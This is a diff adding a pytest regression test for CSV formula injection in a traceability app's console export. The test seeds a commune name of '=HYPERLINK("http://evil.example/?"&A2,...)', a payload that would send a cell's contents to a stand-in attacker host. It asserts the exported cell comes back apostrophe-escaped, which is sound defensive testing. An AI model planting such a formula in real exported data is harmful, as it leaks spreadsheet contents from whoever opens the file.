@@ -83,6 +83,24 @@ def test_csv_has_bom_columns_and_the_tables_rows(app_client: TestClient, runtime
     assert rows[1:] == [["2025-05", "1", "Mỹ Xương", ""], ["2025-06", "1", "Mỹ Xương", ""]]
 
 
+def test_csv_commune_that_looks_like_a_formula_stays_text(app_client: TestClient, runtime: Runtime) -> None:
+    """Any organisation names its plots' commune, and the filter is a query parameter (a link sent to
+    an inspector): the CSV's commune cell must not become a live formula (CSV injection)."""
+    prov = seed_province(app_client, runtime)
+    commune = '=HYPERLINK("http://evil.example/?"&A2,"Xem")'
+    plot = app_client.post("/api/v1/places", headers=auth(prov.coop_keys[0]), json={"kind": "plot", "name": "Vườn",
+                           "commune": commune, "geo": {"type": "Point", "coordinates": [105.7, 10.4]}})  # fmt: skip
+    assert plot.status_code == 201, plot.text
+    r = app_client.post("/api/v1/lots", headers=auth(prov.coop_keys[0]), json={"gtin": MANGO, "lot_code": "INJ-1",
+                        "quantity": 5.0, "plot_id": plot.json()["id"], "harvest_date": "2025-07-01"})  # fmt: skip
+    assert r.status_code == 201, r.text
+    sign_in_authority(app_client, runtime)
+    r = app_client.get("/app/console/figures.csv", params={"figure": "lots", "commune": commune})
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert rows[1:] == [["2025-07", "1", "'" + commune, ""]]
+
+
 @pytest.mark.parametrize(
     "params", [{"figure": "nope"}, {"start": "2025-13"}, {"product": "0"}, {"commune": "x" * 101}, {"end": "25-01"}]
 )
